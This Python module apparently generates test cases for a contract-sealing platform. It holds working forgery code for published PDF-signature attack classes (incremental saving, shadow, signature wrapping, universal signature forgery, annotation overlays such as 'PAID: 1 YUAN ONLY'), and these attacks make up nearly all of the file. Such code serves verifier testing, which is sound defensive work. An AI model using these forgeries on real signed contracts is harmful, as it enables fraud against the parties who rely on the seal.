"""Attacks on a genuine, sealed contract PDF: every class from the PDF-signature research.

Written here from the public descriptions — pdf-insecurity.org (Incremental Saving Attack,
Universal Signature Forgery, Signature Wrapping), "Shadow Attacks" (NDSS 2021: hide, replace,
hide-and-replace), "1 Trillion Dollar Refund" (CCS 2019: evil annotations, sneaky signatures),
"Vulnerability Analysis of PDF signatures" (USENIX 2019). None needs a key: each works on the
bytes of a sealed contract as anyone holding it could. Each generator is a pure, deterministic
function ``bytes -> bytes`` (no Django); ``ATTACKS`` lists them by class.
"""

from __future__ import annotations

import io
import random
import re
from collections.abc import Callable

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name, pdf_string
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader

Attack = Callable[[bytes], bytes]
FAKE_TEXT = b"BT /F1 28 Tf 60 700 Td (PAID: 1 YUAN ONLY) Tj ET"
_FONT = generic.DictionaryObject(
    {
        pdf_name("/Type"): pdf_name("/Font"),
        pdf_name("/Subtype"): pdf_name("/Type1"),
        pdf_name("/BaseFont"): pdf_name("/Helvetica"),
    }
)


# --- helpers -----------------------------------------------------------------------------------


def _writer(pdf: bytes) -> IncrementalPdfFileWriter:
    return IncrementalPdfFileWriter(io.BytesIO(pdf), strict=False)


def _written(writer: IncrementalPdfFileWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _page(
    writer: IncrementalPdfFileWriter,
) -> tuple[generic.DictionaryObject, generic.IndirectObject]:
    page_ref, _resources = writer.find_page_for_modification(0)
    return page_ref.get_object(), page_ref


def _stream(writer: IncrementalPdfFileWriter, data: bytes) -> generic.IndirectObject:
    return writer.add_object(generic.StreamObject(stream_data=data))


def _appearance(
    writer: IncrementalPdfFileWriter, data: bytes, box: list[int]
) -> generic.IndirectObject:
    stream = generic.StreamObject(
        {
            pdf_name("/Type"): pdf_name("/XObject"),
            pdf_name("/Subtype"): pdf_name("/Form"),
            pdf_name("/BBox"): generic.ArrayObject(
                [generic.NumberObject(0)] * 2
                + [generic.NumberObject(box[2] - box[0]), generic.NumberObject(box[3] - box[1])]
            ),
            pdf_name("/Resources"): generic.DictionaryObject(
                {pdf_name("/Font"): generic.DictionaryObject({pdf_name("/F1"): _FONT})}
            ),
        },
        stream_data=data,
    )
    return writer.add_object(stream)


def _rect(box: list[int]) -> generic.ArrayObject:
    return generic.ArrayObject([generic.NumberObject(v) for v in box])


def _add_annotation(
    pdf: bytes, subtype: str, appearance: bytes, extra: dict | None = None
) -> bytes:
    writer = _writer(pdf)
    page, page_ref = _page(writer)
    box = [40, 600, 560, 760]
    annotation = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Annot"),
            pdf_name("/Subtype"): pdf_name(subtype),
            pdf_name("/Rect"): _rect(box),
            pdf_name("/F"): generic.NumberObject(4),
            pdf_name("/P"): page_ref,
            pdf_name("/AP"): generic.DictionaryObject(
                {pdf_name("/N"): _appearance(writer, appearance, box)}
            ),
            **(extra or {}),
        }
    )
    annotation_ref = writer.add_object(annotation)
    _append_annotation(writer, page, annotation_ref)
    return _written(writer)


def _append_annotation(
    writer: IncrementalPdfFileWriter,
    page: generic.DictionaryObject,
    annotation_ref: generic.IndirectObject,
) -> None:
    annots = page.get("/Annots")
    if isinstance(annots, generic.ArrayObject):
        annots.append(annotation_ref)
        if isinstance(page.raw_get("/Annots"), generic.IndirectObject):
            writer.mark_update(page.raw_get("/Annots"))
    else:
        page[pdf_name("/Annots")] = generic.ArrayObject([annotation_ref])
    writer.update_container(page)


def _white_box_and_text() -> bytes:
    return b"1 1 1 rg 0 0 520 160 re f 0 0 0 rg " + FAKE_TEXT.replace(b"60 700", b"10 60")


def _signatures(pdf: bytes) -> list[tuple[str, generic.Reference]]:
    reader = PdfFileReader(io.BytesIO(pdf), strict=False)
    return [(s.field_name, s.sig_field.raw_get("/V").reference) for s in reader.embedded_signatures]


def _redefine(
    pdf: bytes, ref: generic.Reference, change: Callable[[generic.DictionaryObject], None]
) -> bytes:
    """A new revision in which object ``ref`` (a dictionary) is redefined, changed."""
    writer = _writer(pdf)
    original = writer.prev.get_object(generic.Reference(ref.idnum, ref.generation, writer.prev))
    copy = generic.DictionaryObject(dict(original.items()))
    change(copy)
    writer.objects[(ref.generation, ref.idnum)] = copy
    return _written(writer)


def _seal_ref(pdf: bytes) -> generic.Reference:
    """The platform seal's signature dictionary (the last /Sig signature)."""
    reader = PdfFileReader(io.BytesIO(pdf), strict=False)
    regular = list(reader.embedded_regular_signatures)
    return regular[-1].sig_field.raw_get("/V").reference


# --- incremental saving attacks (ISA) ---------------------------------------------------------


def isa_replace_content(pdf: bytes) -> bytes:
    writer = _writer(pdf)
    page, _ref = _page(writer)
    page[pdf_name("/Contents")] = _stream(writer, FAKE_TEXT)
    _with_font(page)
    writer.update_container(page)
    return _written(writer)


def isa_overlay(pdf: bytes) -> bytes:
    writer = _writer(pdf)
    page, _ref = _page(writer)
    existing = page.raw_get("/Contents")
    overlay = _stream(writer, b"q 1 1 1 rg 40 600 520 160 re f Q " + FAKE_TEXT)
    parts = list(existing) if isinstance(existing, generic.ArrayObject) else [existing]
    page[pdf_name("/Contents")] = generic.ArrayObject([*parts, overlay])
    _with_font(page)
    writer.update_container(page)
    return _written(writer)


def _with_font(page: generic.DictionaryObject) -> None:
    old_resources = page["/Resources"] if "/Resources" in page else generic.DictionaryObject()
    resources = generic.DictionaryObject(dict(old_resources.items()))
    old_fonts = resources["/Font"] if "/Font" in resources else generic.DictionaryObject()
    fonts = generic.DictionaryObject(dict(old_fonts.items()))
    fonts[pdf_name("/F1")] = _FONT
    resources[pdf_name("/Font")] = fonts
    page[pdf_name("/Resources")] = resources


def isa_add_page(pdf: bytes) -> bytes:
    writer = _writer(pdf)
    page = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Page"),
            pdf_name("/MediaBox"): _rect([0, 0, 595, 842]),
            pdf_name("/Contents"): _stream(writer, FAKE_TEXT),
            pdf_name("/Resources"): generic.DictionaryObject(
                {pdf_name("/Font"): generic.DictionaryObject({pdf_name("/F1"): _FONT})}
            ),
        }
    )
    writer.insert_page(page)
    return _written(writer)


def isa_remove_page(pdf: bytes) -> bytes:
    writer = _writer(pdf)
    pages = writer.root["/Pages"]
    kids = list(pages["/Kids"])
    pages[pdf_name("/Kids")] = generic.ArrayObject(kids[1:] if len(kids) > 1 else kids[:0])
    pages[pdf_name("/Count")] = generic.NumberObject(max(len(kids) - 1, 0))
    writer.update_container(pages)
    return _written(writer)


def _broken_xref_tail(pdf: bytes) -> bytes:
    """isa-3's trick: a new page and a redefined /Pages after the file, an EMPTY ``xref``, a
    trailer with only /Root, startxref pointing at it. pyHanko stops at the last %%EOF; a
    rebuilding reader shows the new page first."""
    reader = PdfFileReader(io.BytesIO(pdf), strict=False)
    pages = reader.root.raw_get("/Pages").reference
    kids = [k.reference.idnum for k in reader.root["/Pages"].raw_get("/Kids")]
    size = int(reader.trailer["/Size"])
    page, content = size, size + 1
    objects = (
        f"\n{content} 0 obj\n<< /Length {len(FAKE_TEXT)} >>\nstream\n".encode()
        + FAKE_TEXT
        + b"\nendstream\nendobj\n"
        + (
            f"{page} 0 obj\n<< /Type /Page /Parent {pages.idnum} 0 R /MediaBox [0 0 595 842] "
            f"/Contents {content} 0 R /Resources << /Font << /F1 << /Type /Font /Subtype /Type1 "
            f"/BaseFont /Helvetica >> >> >> >>\nendobj\n"
            f"{pages.idnum} 0 obj\n<< /Type /Pages /Kids [{page} 0 R "
            + " ".join(f"{k} 0 R" for k in kids)
            + f"] /Count {len(kids) + 1} >>\nendobj\n"
        ).encode()
    )
    start = len(pdf) + len(objects)
    return (
        objects
        + f"xref\ntrailer\n<< /Root {reader.root_ref.idnum} 0 R >>\nstartxref\n{start}\n".encode()
    )


def isa_broken_xref_without_eof(pdf: bytes) -> bytes:
    return pdf + _broken_xref_tail(pdf)


def isa_broken_xref_with_eof(pdf: bytes) -> bytes:
    return pdf + _broken_xref_tail(pdf) + b"%%EOF\n"


def isa_unreferenced_object(pdf: bytes) -> bytes:
    return pdf + b"\n999 0 obj\n<< /Note (appended after the seal) >>\nendobj\n"


# --- evil annotations (CCS 2019) -----------------------------------------------------------------


def annotation_free_text(pdf: bytes) -> bytes:
    return _add_annotation(
        pdf, "/FreeText", _white_box_and_text(), {pdf_name("/Contents"): pdf_string("PAID")}
    )


def annotation_stamp(pdf: bytes) -> bytes:
    return _add_annotation(pdf, "/Stamp", _white_box_and_text())


def annotation_widget(pdf: bytes) -> bytes:
    return _add_annotation(
        pdf,
        "/Widget",
        _white_box_and_text(),
        {
            pdf_name("/FT"): pdf_name("/Tx"),
            pdf_name("/T"): pdf_string("price"),
            pdf_name("/V"): pdf_string("1 YUAN"),
        },
    )


def annotation_redact(pdf: bytes) -> bytes:
    return _add_annotation(pdf, "/Redact", b"0 0 0 rg 0 0 520 160 re f")


def annotation_square(pdf: bytes) -> bytes:
    return _add_annotation(
        pdf,
        "/Square",
        b"1 1 1 rg 0 0 520 160 re f",
        {pdf_name("/IC"): generic.ArrayObject([generic.FloatObject(1)] * 3)},
    )


# --- sneaky signature (CCS 2019) -----------------------------------------------------------------


def sneaky_signature(pdf: bytes) -> bytes:
    writer = _writer(pdf)
    page, page_ref = _page(writer)
    box = [300, 40, 560, 140]
    signature = writer.add_object(
        generic.DictionaryObject(
            {
                pdf_name("/Type"): pdf_name("/Sig"),
                pdf_name("/Filter"): pdf_name("/Adobe.PPKLite"),
                pdf_name("/SubFilter"): pdf_name("/ETSI.CAdES.detached"),
                pdf_name("/ByteRange"): generic.ArrayObject([generic.NumberObject(0)] * 4),
                pdf_name("/Contents"): generic.ByteStringObject(
                    b"\x30\x03\x02\x01\x00" + bytes(64)
                ),
            }
        )
    )
    field = writer.add_object(
        generic.DictionaryObject(
            {
                pdf_name("/Type"): pdf_name("/Annot"),
                pdf_name("/Subtype"): pdf_name("/Widget"),
                pdf_name("/FT"): pdf_name("/Sig"),
                pdf_name("/T"): pdf_string("approval"),
                pdf_name("/V"): signature,
                pdf_name("/Rect"): _rect(box),
                pdf_name("/F"): generic.NumberObject(4),
                pdf_name("/P"): page_ref,
                pdf_name("/AP"): generic.DictionaryObject(
                    {
                        pdf_name("/N"): _appearance(
                            writer, FAKE_TEXT.replace(b"60 700", b"10 40"), box
                        )
                    }
                ),
            }
        )
    )
    form = writer.root["/AcroForm"]
    form["/Fields"].append(field)
    writer.update_container(form["/Fields"])
    writer.update_container(form)
    _append_annotation(writer, page, field)
    return _written(writer)


# --- shadow attacks (NDSS 2021) ----------------------------------------------------------------


def shadow_hide(pdf: bytes) -> bytes:
    """An opaque white overlay that hides the price, added after the seal."""
    return _add_annotation(pdf, "/Square", b"1 1 1 rg 0 0 520 160 re f")


def shadow_replace(pdf: bytes) -> bytes:
    """A form field whose appearance shows another price over the page."""
    return annotation_widget(pdf)


def shadow_hide_and_replace(pdf: bytes) -> bytes:
    """The page's content stream object redefined under its own number."""
    writer = _writer(pdf)
    page, _ref = _page(writer)
    contents = page.raw_get("/Contents")
    target = contents.raw_get(0) if isinstance(contents, generic.ArrayObject) else contents
    ref = target.reference
    writer.objects[(ref.generation, ref.idnum)] = generic.StreamObject(stream_data=FAKE_TEXT)
    _with_font(page)
    writer.update_container(page)
    return _written(writer)


# --- signature wrapping (SWA) ----------------------------------------------------------------


def signature_wrapping(pdf: bytes) -> bytes:
    """Malicious objects hidden in the unsigned gap of the seal's /Contents (the padding after
    the CMS), keeping every byte range as it is: the signed bytes do not change."""
    reader = PdfFileReader(io.BytesIO(pdf), strict=False)
    seal = list(reader.embedded_regular_signatures)[-1]
    start, length, resume, _rest = (int(x) for x in seal.sig_object["/ByteRange"])
    gap = pdf[start + length : resume]
    hex_digits = gap[1:-1]
    used = len(hex_digits.rstrip(b"0"))
    used += used % 2
    payload = (
        b"> /Wrapped true >>\nendobj\n777 0 obj\n<< /Type /Page /Contents 778 0 R >>\nendobj\n"
        b"778 0 obj\n<< /Length 40 >>\nstream\n" + FAKE_TEXT[:40] + b"\nendstream\nendobj\n<"
    )
    room = len(hex_digits) - used
    if len(payload) > room:
        payload = payload[:room]
    new_gap = b"<" + hex_digits[:used] + payload + b"0" * (room - len(payload)) + b">"
    assert len(new_gap) == len(gap)
    return pdf[: start + length] + new_gap + pdf[resume:]


# --- universal signature forgery (USF) -----------------------------------------------------------


def _usf(change: Callable[[generic.DictionaryObject], None]) -> Attack:
    def attack(pdf: bytes) -> bytes:
        return _redefine(pdf, _seal_ref(pdf), change)

    return attack


def _set(key: str, value: generic.PdfObject) -> Callable[[generic.DictionaryObject], None]:
    def change(signature: generic.DictionaryObject) -> None:
        signature[pdf_name(key)] = value

    return change


def _drop(key: str) -> Callable[[generic.DictionaryObject], None]:
    def change(signature: generic.DictionaryObject) -> None:
        del signature[pdf_name(key)]

    return change


def usf_garbled_contents_in_place(pdf: bytes) -> bytes:
    """The seal's CMS changed inside its (unsigned) /Contents gap, same length."""
    reader = PdfFileReader(io.BytesIO(pdf), strict=False)
    seal = list(reader.embedded_regular_signatures)[-1]
    start, length, _resume, _rest = (int(x) for x in seal.sig_object["/ByteRange"])
    position = start + length + 200
    digit = pdf[position : position + 1]
    return pdf[:position] + (b"1" if digit != b"1" else b"2") + pdf[position + 1 :]


def usf_empty_contents_in_place(pdf: bytes) -> bytes:
    reader = PdfFileReader(io.BytesIO(pdf), strict=False)
    seal = list(reader.embedded_regular_signatures)[-1]
    start, length, resume, _rest = (int(x) for x in seal.sig_object["/ByteRange"])
    return pdf[: start + length] + b"<" + b"0" * (resume - start - length - 2) + b">" + pdf[resume:]


# --- signature swaps ---------------------------------------------------------------------------


def swap_contents_a_into_b(pdf: bytes) -> bytes:
    """Party B's signature dictionary given party A's CMS and byte range, in a new revision."""
    signatures = dict(_signatures(pdf))
    names = list(signatures)
    reader = PdfFileReader(io.BytesIO(pdf), strict=False)
    first = reader.get_object(signatures[names[0]])

    def change(signature: generic.DictionaryObject) -> None:
        signature[pdf_name("/Contents")] = first["/Contents"]
        signature[pdf_name("/ByteRange")] = first["/ByteRange"]

    return _redefine(pdf, signatures[names[1]], change)


def swap_seal_into_party(pdf: bytes) -> bytes:
    """Party A's signature dictionary given the seal's CMS and byte range."""
    signatures = _signatures(pdf)
    reader = PdfFileReader(io.BytesIO(pdf), strict=False)
    seal = reader.get_object(_seal_ref(pdf))

    def change(signature: generic.DictionaryObject) -> None:
        signature[pdf_name("/Contents")] = seal["/Contents"]
        signature[pdf_name("/ByteRange")] = seal["/ByteRange"]

    return _redefine(pdf, signatures[0][1], change)


# --- metadata --------------------------------------------------------------------------------


def metadata_info_title(pdf: bytes) -> bytes:
    writer = _writer(pdf)
    info = writer.trailer["/Info"]
    info[pdf_name("/Title")] = pdf_string("Invoice: paid in full")
    writer.update_container(info)
    return _written(writer)


def metadata_info_producer(pdf: bytes) -> bytes:
    writer = _writer(pdf)
    info = writer.trailer["/Info"]
    info[pdf_name("/Producer")] = pdf_string("Forged Producer 1.0")
    writer.update_container(info)
    return _written(writer)


def metadata_xmp(pdf: bytes) -> bytes:
    """The XMP packet replaced (another title) in a hand-written update: pyHanko's writer would
    regenerate the XMP itself, so this one is written the way any other tool would."""
    reader = PdfFileReader(io.BytesIO(pdf), strict=False)
    xmp = reader.root["/Metadata"].data
    forged = (
        b'<rdf:Description rdf:about="" xmlns:dc="http://purl.org/dc/elements/1.1/">'
        b"<dc:title>Invoice: paid in full</dc:title></rdf:Description>"
    )
    changed = xmp.replace(b"</rdf:RDF>", forged + b"</rdf:RDF>", 1)
    size = int(reader.trailer["/Size"])
    catalog = generic.DictionaryObject(dict(reader.root.items()))
    catalog[pdf_name("/Metadata")] = generic.IndirectObject(size, 0, reader)
    stream = (
        f"<< /Type /Metadata /Subtype /XML /Length {len(changed)} >>\nstream\n".encode()
        + changed
        + b"\nendstream"
    )
    return _raw_update(pdf, reader, {size: stream, reader.root_ref.idnum: _serialised(catalog)})


def _serialised(obj: generic.PdfObject) -> bytes:
    out = io.BytesIO()
    obj.write_to_stream(out)
    return out.getvalue()


def _raw_update(pdf: bytes, reader: PdfFileReader, objects: dict[int, bytes]) -> bytes:
    """An incremental update written by hand: the objects, a classic xref table, a trailer."""
    body = bytearray(b"\n")
    offsets = {}
    for number, data in sorted(objects.items()):
        offsets[number] = len(pdf) + len(body)
        body += f"{number} 0 obj\n".encode() + data + b"\nendobj\n"
    xref_at = len(pdf) + len(body)
    body += b"xref\n"
    for number, offset in sorted(offsets.items()):
        body += f"{number} 1\n{offset:010d} 00000 n \n".encode()
    size = max(int(reader.trailer["/Size"]), max(objects) + 1)
    previous = reader.last_startxref
    body += (
        f"trailer\n<< /Size {size} /Root {reader.root_ref.idnum} 0 R /Prev {previous} >>\n"
        f"startxref\n{xref_at}\n%%EOF\n"
    ).encode()
    return pdf + bytes(body)


def metadata_in_place(pdf: bytes) -> bytes:
    """A same-length change of a signed byte in the first revision's header comment."""
    position = pdf.index(b"\n%") + 3
    return pdf[:position] + bytes([pdf[position] ^ 0x20]) + pdf[position + 1 :]


# --- random byte flips over the signed bytes -----------------------------------------------------


def signed_positions(pdf: bytes) -> list[tuple[int, int]]:
    """The byte ranges some signature covers (merged), outside every /Contents gap."""
    reader = PdfFileReader(io.BytesIO(pdf), strict=False)
    covered: list[tuple[int, int]] = []
    gaps: list[tuple[int, int]] = []
    for signature in reader.embedded_signatures:
        a, b, c, d = (int(x) for x in signature.sig_object["/ByteRange"])
        covered += [(a, a + b), (c, c + d)]
        gaps.append((a + b, c))
    end = max(e for _s, e in covered)
    return [(start, stop) for start, stop in _subtract([(0, end)], gaps) if stop > start]


def _subtract(ranges: list[tuple[int, int]], holes: list[tuple[int, int]]) -> list[tuple[int, int]]:
    for hole_start, hole_end in holes:
        pieces = []
        for start, stop in ranges:
            if hole_end <= start or hole_start >= stop:
                pieces.append((start, stop))
                continue
            pieces += [(start, hole_start), (hole_end, stop)]
        ranges = [(s, e) for s, e in pieces if e > s]
    return ranges


def flip(pdf: bytes, seed: int, positions: list[tuple[int, int]] | None = None) -> bytes:
    """One bit of one signed byte flipped, chosen by ``seed``."""
    ranges = positions if positions is not None else signed_positions(pdf)
    rng = random.Random(seed)  # noqa: S311 - a reproducible choice of position, not a secret
    total = sum(stop - start for start, stop in ranges)
    offset = rng.randrange(total)
    for start, stop in ranges:
        if offset < stop - start:
            position = start + offset
            break
        offset -= stop - start
    data = bytearray(pdf)
    data[position] ^= 1 << rng.randrange(8)
    return bytes(data)


def shadow_fill_form_field(pdf: bytes) -> bytes:
    """Form filling after the seal (DocMDP P=2 allows it): an existing text field of the
    document gets another value and appearance; without one, a new field is added."""
    writer = _writer(pdf)
    # Indexing dereferences the form dictionary; pyHanko's .get() would not.
    form = writer.root["/AcroForm"] if "/AcroForm" in writer.root else None  # noqa: SIM401
    fields = [
        f
        for f in (form["/Fields"] if form is not None else [])
        if f.get_object().get("/FT") == "/Tx"
    ]
    if not fields:
        return annotation_widget(pdf)
    field = fields[0].get_object()
    box = [int(float(v)) for v in field["/Rect"]]
    field[pdf_name("/V")] = pdf_string("1 YUAN")
    field[pdf_name("/AP")] = generic.DictionaryObject(
        {
            pdf_name("/N"): _appearance(
                writer, b"1 1 1 rg 0 0 500 40 re f 0 0 0 rg BT /F1 12 Tf 2 4 Td (1 YUAN) Tj ET", box
            )
        }
    )
    writer.update_container(field)
    return _written(writer)


ATTACKS: dict[str, list[tuple[str, Attack]]] = {
    "isa": [
        ("replace content", isa_replace_content),
        ("overlay", isa_overlay),
        ("add page", isa_add_page),
        ("remove page", isa_remove_page),
        ("broken final xref, no %%EOF", isa_broken_xref_without_eof),
        ("broken final xref, %%EOF", isa_broken_xref_with_eof),
        ("unreferenced object after %%EOF", isa_unreferenced_object),
    ],
    "annotations": [
        ("FreeText", annotation_free_text),
        ("Stamp", annotation_stamp),
        ("Widget", annotation_widget),
        ("Redact", annotation_redact),
        ("Square", annotation_square),
    ],
    "sneaky_signature": [("visible signature field", sneaky_signature)],
    "shadow": [
        ("hide", shadow_hide),
        ("replace", shadow_replace),
        ("hide and replace", shadow_hide_and_replace),
        ("fill a form field", shadow_fill_form_field),
    ],
    "signature_wrapping": [("objects in the seal's gap", signature_wrapping)],
    "usf": [
        ("empty /Contents (new revision)", _usf(_set("/Contents", generic.ByteStringObject(b"")))),
        (
            "garbled /Contents (new revision)",
            _usf(_set("/Contents", generic.ByteStringObject(b"\x30\x82\x00\x10" + bytes(16)))),
        ),
        ("missing /Contents", _usf(_drop("/Contents"))),
        ("missing /ByteRange", _usf(_drop("/ByteRange"))),
        ("empty /ByteRange", _usf(_set("/ByteRange", generic.ArrayObject()))),
        (
            "/ByteRange [0 0 0 0]",
            _usf(_set("/ByteRange", generic.ArrayObject([generic.NumberObject(0)] * 4))),
        ),
        ("garbled /Contents in place", usf_garbled_contents_in_place),
        ("zeroed /Contents in place", usf_empty_contents_in_place),
    ],
    "signature_swap": [
        ("party A's CMS into party B's dictionary", swap_contents_a_into_b),
        ("the seal's CMS into party A's dictionary", swap_seal_into_party),
    ],
    "metadata": [
        ("/Info title", metadata_info_title),
        ("/Info producer", metadata_info_producer),
        ("XMP", metadata_xmp),
        ("in place", metadata_in_place),
    ],
}


def variants() -> list[tuple[str, str, Attack]]:
    return [(kind, name, attack) for kind, attacks in ATTACKS.items() for name, attack in attacks]


def _flipped_at(pdf: bytes, position: int) -> bytes:
    return pdf[:position] + bytes([pdf[position] ^ 0x01]) + pdf[position + 1 :]


def flipped_page_content(pdf: bytes) -> bytes:
    """One bit of the first page's content stream flipped: inside every signature's byte range,
    wherever the file's own structure (xref streams, object streams) happens to lie."""
    reader = PdfFileReader(io.BytesIO(pdf))
    contents = reader.root["/Pages"]["/Kids"][0].get_object().raw_get("/Contents")
    if isinstance(contents, generic.ArrayObject):
        contents = contents.raw_get(0)
    header = re.search(rb"(?<![0-9])%d 0 obj\b" % contents.idnum, pdf)
    if header is None:
        raise ValueError("the page content stream is not a plain object")
    position = pdf.index(b"stream", header.end()) + len(b"stream\n") + 8
    return _flipped_at(pdf, position)


def damaged_object_stream(pdf: bytes) -> bytes:
    """One bit of the first object stream's zlib checksum flipped (its data decompresses, its
    check fails): pyHanko cannot read the objects in it at all, while PDF readers ignore the
    checksum and show the file."""
    header = pdf.find(b"/ObjStm")
    if header < 0:
        raise ValueError("the file has no object stream")
    end = pdf.index(b"endstream", header)
    position = pdf.rindex(b"\n", header, end) - 2  # inside the Adler-32 before the EOL
    return _flipped_at(pdf, position)
